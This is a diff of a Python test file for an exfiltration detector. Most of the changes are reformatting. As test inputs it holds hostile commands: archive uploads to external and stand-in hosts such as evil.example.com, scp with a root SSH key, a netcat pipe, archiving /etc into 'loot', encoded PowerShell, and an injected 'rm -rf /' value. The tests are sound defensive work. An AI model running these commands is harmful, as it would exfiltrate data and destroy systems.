@@ -107,11 +107,20 @@ def test_encryption(cmd: str, encrypts: bool) -> None:
     ("cmd", "tool", "where", "internal"),
     [
         ("curl -T /tmp/a.tgz https://203.0.113.5/up", "curl", "203.0.113.5", False),
-        ("curl -s -F 'file=@/tmp/a.tgz;type=application/gzip' http://evil.example.com/u", "curl",
-         "evil.example.com", False),
+        (
+            "curl -s -F 'file=@/tmp/a.tgz;type=application/gzip' http://evil.example.com/u",
+            "curl",
+            "evil.example.com",
+            False,
+        ),
         ("curl --data-binary @/tmp/x.tgz http://10.1.2.3/", "curl", "10.1.2.3", True),
         ("wget --post-file=/tmp/x.tgz http://198.51.100.7/", "wget", "198.51.100.7", False),
-        ("scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~", "scp", "34.116.205.187", False),
+        (
+            "scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~",
+            "scp",
+            "34.116.205.187",
+            False,
+        ),
         ("rsync -az /data backup.internal:/bk", "rsync", "backup.internal", True),
         ("rclone copy /data remote:bucket", "rclone", "remote:", False),
         ("aws s3 cp /tmp/x.tgz s3://bucket/x", "aws s3", "bucket", False),
@@ -151,7 +160,9 @@ def test_pipeline_in_shell_wrapper_links_archiver_to_uploader() -> None:
 
 
 def test_child_fed_by_parent_shell_pipe_counts_as_upload() -> None:
-    event = launch("nc 203.0.113.9 4444", parent_cmd="/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'")
+    event = launch(
+        "nc 203.0.113.9 4444", parent_cmd="/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"
+    )
     [signal] = detector.signals(event)
     assert signal.kind is SignalKind.UPLOAD
 
@@ -167,7 +178,9 @@ def test_cmd_exe_wrapper() -> None:
 
 
 def test_powershell_compress_archive_and_encoded_command() -> None:
-    script = r"Compress-Archive -Path C:\SensitiveData\* -DestinationPath C:\Archive\SensitiveData.zip"
+    script = (
+        r"Compress-Archive -Path C:\SensitiveData\* -DestinationPath C:\Archive\SensitiveData.zip"
+    )
     plain = kinds(f"powershell.exe -Command {script}")
     assert plain == [("archive", "Compress-Archive", r"C:\Archive\SensitiveData.zip")]
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
@@ -177,16 +190,29 @@ def test_powershell_compress_archive_and_encoded_command() -> None:
 def test_dotnet_zipfile_is_archive_via_library() -> None:
     cmd = "pwsh -c \"[IO.Compression.ZipFile]::CreateFromDirectory('C:\\data', 'C:\\out.zip')\""
     [signal] = detector.signals(launch(cmd))
-    assert (signal.tool, signal.technique, signal.archive_path) == ("ZipFile.CreateFromDirectory", "T1560.002", "C:\\out.zip")
+    assert (signal.tool, signal.technique, signal.archive_path) == (
+        "ZipFile.CreateFromDirectory",
+        "T1560.002",
+        "C:\\out.zip",
+    )
 
 
 @pytest.mark.parametrize(
     ("cmd", "path"),
     [
-        ("python3 -c \"import tarfile; t=tarfile.open('/tmp/x.tar.gz','w:gz'); t.add('/etc')\"", "/tmp/x.tar.gz"),
+        (
+            "python3 -c \"import tarfile; t=tarfile.open('/tmp/x.tar.gz','w:gz'); t.add('/etc')\"",
+            "/tmp/x.tar.gz",
+        ),
         ("python3 -m zipfile -c /tmp/a.zip /etc", "/tmp/a.zip"),
-        ("python -c \"import gzip; gzip.open('/tmp/p.gz','wb').write(open('/etc/passwd','rb').read())\"", "/tmp/p.gz"),
-        ("python3.11 -c \"import shutil; shutil.make_archive('/tmp/loot', 'zip', '/srv')\"", "/tmp/loot"),
+        (
+            "python -c \"import gzip; gzip.open('/tmp/p.gz','wb').write(b'x')\"",
+            "/tmp/p.gz",
+        ),
+        (
+            "python3.11 -c \"import shutil; shutil.make_archive('/tmp/loot', 'zip', '/srv')\"",
+            "/tmp/loot",
+        ),
     ],
 )
 def test_python_libraries(cmd: str, path: str) -> None:
@@ -196,12 +222,18 @@ def test_python_libraries(cmd: str, path: str) -> None:
 
 
 def test_python_reading_archives_is_not_a_signal() -> None:
-    assert kinds("python3 -c \"import tarfile; tarfile.open('/tmp/x.tgz').extractall('/tmp')\"") == []
+    assert (
+        kinds("python3 -c \"import tarfile; tarfile.open('/tmp/x.tgz').extractall('/tmp')\"") == []
+    )
 
 
 def test_split_before_transfer() -> None:
     [signal] = detector.signals(launch("split -b 10M /tmp/x.tgz /tmp/part."))
-    assert (signal.kind, signal.technique, signal.sent_paths) == (SignalKind.SPLIT, "T1030", ("/tmp/x.tgz",))
+    assert (signal.kind, signal.technique, signal.sent_paths) == (
+        SignalKind.SPLIT,
+        "T1030",
+        ("/tmp/x.tgz",),
+    )
 
 
 def test_runtime_commands_on_a_host() -> None:
@@ -213,7 +245,14 @@ def test_runtime_commands_on_a_host() -> None:
 
 def test_egress_only_to_non_internal_addresses() -> None:
     assert [s.kind for s in detector.signals(connect("203.0.113.7"))] == [SignalKind.EGRESS]
-    for internal in ("10.1.2.3", "192.168.0.9", "172.20.0.1", "127.0.0.1", "169.254.169.254", "fd00::1"):
+    for internal in (
+        "10.1.2.3",
+        "192.168.0.9",
+        "172.20.0.1",
+        "127.0.0.1",
+        "169.254.169.254",
+        "fd00::1",
+    ):
         assert detector.signals(connect(internal)) == []
 
 
@@ -227,7 +266,9 @@ def test_address_policy_overrides() -> None:
 def test_archive_files_by_name_and_magic() -> None:
     [by_name] = detector.signals(file_write("/tmp/q3.tar.gz"))
     assert by_name.kind is SignalKind.ARCHIVE_FILE
-    [by_magic] = detector.signals(file_write("/tmp/blob.bin", magic=bytes.fromhex("377abcaf271c0004")))
+    [by_magic] = detector.signals(
+        file_write("/tmp/blob.bin", magic=bytes.fromhex("377abcaf271c0004"))
+    )
     assert "7z" in by_magic.explanation
     assert detector.signals(file_write("/tmp/notes.txt")) == []
     [encrypted] = detector.signals(file_write("/tmp/loot.tgz.gpg"))
@@ -236,5 +277,10 @@ def test_archive_files_by_name_and_magic() -> None:
 
 def test_attacker_text_is_only_tokenised() -> None:
     # Unbalanced quotes, shell metacharacters and control bytes must not raise.
-    for cmd in ["sh -c 'tar czf", "tar -czf $(rm -rf /) `id`", "curl -T \x00\x1b[31m http://x", 'cmd.exe /c "'] :
+    for cmd in [
+        "sh -c 'tar czf",
+        "tar -czf $(rm -rf /) `id`",
+        "curl -T \x00\x1b[31m http://x",
+        'cmd.exe /c "',
+    ]:
         detector.signals(launch(cmd))
